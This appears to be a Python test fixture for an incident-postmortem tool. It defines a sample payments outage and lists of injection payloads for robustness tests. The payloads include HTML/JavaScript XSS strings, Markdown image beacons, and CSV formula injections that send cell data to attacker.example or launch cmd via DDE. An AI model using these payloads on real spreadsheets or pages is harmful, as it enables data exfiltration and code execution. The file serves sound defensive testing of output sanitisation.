"""A realistic sample incident for the output tests (postmortem, chart, export), and the payloads of
``reference/robustness.md`` §3 to inject into it.

The story: at 09:58 a deploy of ``payments`` v2.3.1 shrinks its database pool; from 10:00:30 checkout
requests fail; an alert fires at 10:09; a rollback at 10:20 mitigates; errors stop at 10:24; the
incident is resolved at 10:40. User names appear in the events (user column, a deploy message, a
PagerDuty acknowledgement) so tests can check that the draft never names them.
"""

from __future__ import annotations

from collections import Counter
from typing import Any, Final

import numpy as np
import pandas as pd

from pmtimeline.incident import Actor, Evidence, Exposure, Incident, Metrics, RootCauseCandidate
from pmtimeline.schema import COUNT_DTYPES, conform_events
from pmtimeline.sources import SourceAccounting

#: Names of people that appear in the sample's events and must never appear in the draft.
PEOPLE: Final = ("alice.smith", "Bob Jones")

#: robustness.md §3.1: Plotly/HTML payloads.
HTML_PAYLOADS: Final = (
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://evil.example/">click</a>',
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    r"$\href{javascript:alert(1)}{m}$",
    '<span style="font-size:300px;fill:red">BIG</span>',
    "%{x}%{y:$.2f}",
    "\u202egnp.exe",
    "A" * 100_000,
)
#: robustness.md §3.2: Markdown payloads.
MARKDOWN_PAYLOADS: Final = (
    "@everyone",
    "<img src=https://attacker.example/x.png>",
    "![](https://attacker.example/b?c=1)",
    "```\n## Fake section",
    "a|b|c",
    "<!--",
    "<details open><summary>x</summary>",
    "[x](javascript:alert(1))",
    "#1",
    "\u202etxt.exe",
    "\n# Root cause: the intern",
)
#: robustness.md §3.3: CSV formula payloads.
CSV_PAYLOADS: Final = (
    '=HYPERLINK("https://attacker.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://attacker.example/?",A1),"//a")',
)

T0: Final = pd.Timestamp("2024-03-01T09:00:00Z")


def ts(text: str) -> pd.Timestamp:
    """A UTC time on the sample's day, from ``HH:MM:SS``."""
    return pd.Timestamp(f"2024-03-01T{text}Z")


def _event(time: str, source: str, line: int, service: str, level: str, message: str, **extra: Any) -> dict[str, Any]:
    return {
        "timestamp": ts(time),
        "source": source,
        "line": line,
        "service": service,
        "level": level,
        "message": message,
        "kind": "log",
        "host": f"{service}-1",
        **extra,
    }


def key_events() -> list[dict[str, Any]]:
    """The events the story is told with (a change, alerts, the first errors)."""
    return [
        _event(
            "09:58:12",
            "deploy.log",
            41,
            "payments",
            "info",
            "deploy payments v2.3.1 started by alice.smith: db.pool.max 50 -> 5",
            kind="change",
            change_type="deploy",
            user="alice.smith",
        ),
        _event("10:00:30", "payments.log", 1042, "payments", "error", "ERROR connection pool exhausted (5/5 in use)"),
        _event(
            "10:00:41",
            "gateway.log",
            20311,
            "api-gateway",
            "error",
            "POST /api/checkout 503 upstream payments timed out",
            kind="request",
            http_status=503,
            http_method="POST",
            url_path="/api/checkout",
            user="carol99",
        ),
        _event("10:02:02", "db.log", 77, "db", "warning", "too many clients already"),
        _event(
            "10:09:00",
            "alerts.json",
            3,
            "payments",
            "critical",
            "PaymentsHighErrorRate firing",
            kind="alert",
            alert_name="PaymentsHighErrorRate",
            alert_state="firing",
            alert_id="pd-1",
        ),
        _event(
            "10:12:00",
            "alerts.json",
            4,
            "payments",
            "info",
            "PaymentsHighErrorRate acknowledged by Bob Jones",
            kind="alert",
            alert_name="PaymentsHighErrorRate",
            alert_state="acknowledged",
            alert_id="pd-1",
        ),
        _event(
            "10:20:05",
            "deploy.log",
            88,
            "payments",
            "info",
            "rollback payments to v2.3.0",
            kind="change",
            change_type="rollback",
        ),
        _event(
            "10:40:00",
            "alerts.json",
            9,
            "payments",
            "info",
            "PaymentsHighErrorRate resolved",
            kind="alert",
            alert_name="PaymentsHighErrorRate",
            alert_state="resolved",
            alert_id="pd-1",
        ),
        _event(
            "10:15:00",
            "alerts.json",
            6,
            "db",
            "warning",
            "DbConnectionsHigh firing",
            kind="alert",
            alert_name="DbConnectionsHigh",
            alert_state="firing",
            alert_id="am-7",
        ),
    ]


def sample_notable(background: int = 400, seed: int = 7) -> pd.DataFrame:
    """The notable-event frame: key events, the errors of the incident and a sample of ordinary events."""
    rng = np.random.default_rng(seed)
    rows = key_events()
    start, end = ts("09:00:00").value, ts("11:00:00").value
    services = ("api-gateway", "payments", "db")
    for i in range(background):
        t = pd.Timestamp(int(rng.integers(start, end)), tz="UTC")
        service = services[i % 3]
        in_incident = ts("10:00:30") <= t <= ts("10:24:00")
        level = "error" if in_incident and rng.random() < 0.6 else ("warning" if rng.random() < 0.05 else "info")
        rows.append(
            {
                "timestamp": t,
                "source": f"{service}.log",
                "line": 2000 + i,
                "service": service,
                "level": level,
                "message": "connection pool exhausted" if level == "error" else f"GET /api/items/{i} 200 in 12 ms",
                "kind": "log",
                "host": f"{service}-1",
                "user": "dave.k" if i % 50 == 0 else None,
            }
        )
    frame = conform_events(pd.DataFrame(rows))
    return frame.sort_values("timestamp", kind="stable").reset_index(drop=True)


def sample_counts(resolution: str = "1s") -> pd.DataFrame:
    """Per-second counts per service over the window: requests everywhere, failures during the incident."""
    seconds = pd.date_range(T0, ts("11:00:00"), freq=resolution, inclusive="left")
    frames = []
    incident = (seconds >= ts("10:00:30")) & (seconds < ts("10:24:00"))
    for service, rate in (("api-gateway", 20), ("payments", 8), ("db", 2)):
        requests = np.full(len(seconds), rate, dtype="int64")
        failed = np.where(incident, rate // 2, 0).astype("int64")
        errors = failed + np.where(incident, 1, 0)
        edge = requests if service == "api-gateway" else np.zeros(len(seconds), dtype="int64")
        edge_failed = failed if service == "api-gateway" else np.zeros(len(seconds), dtype="int64")
        frames.append(
            pd.DataFrame(
                {
                    "bucket": seconds,
                    "service": service,
                    "events": requests + errors,
                    "errors": errors,
                    "warnings": np.zeros(len(seconds), dtype="int64"),
                    "requests": requests,
                    "failed_requests": failed,
                    "edge_requests": edge,
                    "failed_edge_requests": edge_failed,
                }
            )
        )
    return pd.concat(frames, ignore_index=True).astype(COUNT_DTYPES)  # type: ignore[arg-type]


def sample_intervals() -> pd.DataFrame:
    """The alert intervals of the sample, as ``alert_intervals(events)`` returns them."""
    return pd.DataFrame(
        {
            "alert_id": ["pd-1", "am-7"],
            "alert_name": ["PaymentsHighErrorRate", "DbConnectionsHigh"],
            "service": ["payments", "db"],
            "severity": ["critical", "warning"],
            "fired": [ts("10:09:00"), ts("10:15:00")],
            "acknowledged": [ts("10:12:00"), pd.NaT],
            "resolved": [ts("10:40:00"), pd.NaT],
            "source": ["alerts.json", "alerts.json"],
            "line": pd.array([3, 6], dtype="Int64"),
            "summary": ["acknowledged by Bob Jones", "db connections high"],
            "fired_source": ["alerts.json", "alerts.json"],
            "fired_line": pd.array([3, 6], dtype="Int64"),
            "acknowledged_source": ["alerts.json", None],
            "acknowledged_line": pd.array([4, None], dtype="Int64"),
            "resolved_source": ["alerts.json", None],
            "resolved_line": pd.array([9, None], dtype="Int64"),
        }
    )


def evidence(time: str, source: str, line: int, message: str, **extra: Any) -> Evidence:
    return Evidence(time=ts(time), source=source, line=line, message=message, **extra)


def sample_incident(**changes: Any) -> Incident:
    """The analysis result of the sample (fields can be replaced with keyword arguments)."""
    onset_ev = evidence("10:00:30", "payments.log", 1042, "ERROR connection pool exhausted (5/5 in use)")
    deploy_ev = evidence(
        "09:58:12", "deploy.log", 41, "deploy payments v2.3.1 started by alice.smith: db.pool.max 50 -> 5"
    )
    fields: dict[str, Any] = {
        "title": "Checkout failures after payments deploy",
        "window_start": ts("09:00:00"),
        "window_end": ts("11:00:00"),
        "phases": {
            "onset": ts("10:00:30"),
            "detected": ts("10:09:00"),
            "mitigated": ts("10:20:05"),
            "recovered": ts("10:24:00"),
            "resolved": ts("10:40:00"),
        },
        "phase_evidence": {
            "onset": (onset_ev,),
            "detected": (evidence("10:09:00", "alerts.json", 3, "PaymentsHighErrorRate firing", kind="alert"),),
            "mitigated": (evidence("10:20:05", "deploy.log", 88, "rollback payments to v2.3.0", kind="change"),),
            "recovered": (evidence("10:23:58", "gateway.log", 51200, "POST /api/checkout 200"),),
            "resolved": (evidence("10:40:00", "alerts.json", 9, "PaymentsHighErrorRate resolved", kind="alert"),),
        },
        "anomaly_signal": "failed_requests",
        "metrics": Metrics(
            time_to_detect_s=510.0,
            time_to_mitigate_s=1175.0,
            time_to_recover_s=1410.0,
            time_to_resolve_s=2370.0,
            requests_total=28_200,
            requests_failed=14_100,
            error_rate_peak=0.5,
            error_events=15_530,
            affected_users=1_234,
            affected_services=("api-gateway", "payments", "db"),
            affected_hosts=("api-gateway-1", "payments-1"),
            affected_endpoints=(("/api/checkout", 12_000), ("/api/cart", 2_100)),
            latency_ms={
                "before": {"p50": 12.0, "p95": 40.0, "p99": 80.0},
                "during": {"p50": 900.0, "p95": 5000.0, "p99": None},
            },
            error_budget_burn=0.42,
        ),
        "root_cause_candidates": (
            RootCauseCandidate(
                1, "change", ts("09:58:12"), "payments", "deploy of payments 138 s before onset", 0.91, (deploy_ev,)
            ),
            RootCauseCandidate(
                2,
                "new_error_template",
                ts("10:00:30"),
                "payments",
                "new error: connection pool exhausted (<*>/<*> in use)",
                0.7,
                (onset_ev,),
            ),
            RootCauseCandidate(
                3, "first_failing_service", ts("10:00:30"), "payments", "payments failed first", 0.5, (onset_ev,)
            ),
        ),
        "sources": (
            SourceAccounting(
                name="gateway.log",
                path="/logs/gateway.log",
                format="access_combined",
                lines_read=60_000,
                event_lines=59_990,
                events=59_990,
                rejected=Counter({"unparseable": 10}),
            ),
            SourceAccounting(
                name="payments.log",
                path="/logs/payments.log",
                format="python_logging",
                lines_read=9_000,
                event_lines=8_500,
                events=8_500,
                continuation_lines=500,
                time_zone="Europe/Berlin",
            ),
            SourceAccounting(
                name="db.log",
                path="/logs/db.log",
                format="syslog_rfc3164",
                lines_read=300,
                event_lines=300,
                events=300,
                year_inferred=True,
                partial=True,
                partial_reason="file truncated at 10:30",
            ),
            SourceAccounting(
                name="alerts.json",
                path="/logs/alerts.json",
                format="pagerduty",
                lines_read=12,
                event_lines=12,
                events=12,
            ),
        ),
        "partial": True,
        "partial_reasons": ("db.log: file truncated at 10:30",),
        "redacted": True,
    }
    fields.update(changes)
    return Incident(**fields)


def breach_exposure() -> Exposure:
    return Exposure(
        actors=(
            Actor(
                "203.0.113.7",
                "client_ip",
                failures=4_000,
                successes=3,
                accounts=("carol99", "erin"),
                first_seen=ts("09:30:00"),
                last_seen=ts("10:05:00"),
            ),
            Actor("mallory", "user", failures=20, successes=1, first_seen=ts("09:40:00"), last_seen=ts("09:50:00")),
        ),
        accounts_touched=("carol99", "erin", "frank"),
        data_operations=(evidence("09:52:00", "app.log", 900, "export of 1200 customer records by carol99"),),
    )
